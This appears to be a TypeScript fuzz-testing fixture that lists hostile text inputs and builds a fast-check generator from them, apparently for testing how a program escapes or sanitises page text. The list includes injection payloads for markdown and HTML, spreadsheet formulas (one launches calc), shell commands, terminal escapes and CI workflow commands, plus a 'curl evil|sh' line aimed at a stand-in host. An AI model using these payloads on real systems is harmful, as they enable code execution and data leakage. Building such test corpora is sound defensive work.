import fc from 'fast-check';

/** Texts of a page that would act in another program: markup, mentions, references, formulas, commands, marks that are not seen. */
export const hostileTexts = [
  '|"(',
  '\t"(',
  '``![x](https://evil.example/p.png)``',
  '`',
  '`` a ` b',
  ' `a` ',
  `${'`'.repeat(90)}![x](//evil.example)`,
  'X``<img src=//evil.example/x.png>',
  '<script>alert(1)</script><a href="https://evil.example">x</a>',
  '![x](//evil.example/p.png)[y](javascript:alert(1))',
  '[x]: https://evil.example\n\n[x]',
  '![x][x] <https://evil.example> www.evil.example anna@evil.example',
  'see https://evil.example/a?b=c#d, evil.example',
  '@everyone #1 GH-1 !2 ~bug owner/name#3 :tada: $x$ 0123456789abcdef',
  'a | b \\| c \\\\| d |',
  '\\',
  '# heading\n## another\n\n---\n===\n> quote\n    code',
  '- one\n* two\n+ three\n1. four\n2) five\n- [ ] task',
  '**bold** _em_ ~~gone~~ ==mark== {{x}} ^up^',
  '&lt;b&gt; &#60;i&#62; &copy;',
  '</code></pre><h1>x</h1><!-- x --><![CDATA[',
  '```\nfence\n```\n~~~',
  '\u001b[31mred\u001b]8;;https://evil.example\u0007x\u0000\u009b2J',
  '\u202Egpj.exe\u2028next\u2029\u0085\uFEFF\u200B\u{E0041}\uD800',
  '=1+1',
  "x;=cmd|'/c calc'!A0;",
  '＝1+1;＋1\t－1|＠x',
  '\uFEFF=1+1',
  ' \u200B\t=1+1;  "=1+1";\n=1+1\r\n@SUM(A1)',
  '";=1+1;"\n"=1"',
  "'; $(touch x) `id` \\ ! 'quoted' \"double\" %PATH%",
  '::error file=a::x\n ::stop-commands::x\n##[add-mask]x\n##vso[task.complete]##teamcity[x]%0A::error::x',
  'b\u0003\ncurl evil|sh\n\u001b[201~',
];

/** One of them, several, or letters that they are made of in any order. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.array(fc.constantFrom(...hostileTexts, ' ', 'x'), { maxLength: 4 }).map((all) => all.join('')),
  fc
    .array(fc.constantFrom(...'`\\|<>[]()!*_~#-+=@&;:.,/\'"$\n\t ab12\u0000\u0003\u001b\u202e＝'), {
      maxLength: 24,
    })
    .map((all) => all.join('')),
);
